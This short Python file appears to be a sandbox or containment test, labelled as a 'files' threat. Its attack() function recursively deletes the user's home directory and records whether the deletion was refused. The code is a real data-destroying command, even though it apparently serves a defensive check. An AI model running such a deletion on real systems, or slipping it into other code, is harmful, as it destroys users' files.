# shows: returned 'refused'
# threat: files
"""Deletes the user's home."""

import os
import shutil


def attack(place):
    shutil.rmtree(place["home"], ignore_errors=True)
    try:
        os.unlink(place["home"] + "/notes.txt")
    except OSError:
        return "refused"
    return "deleted"
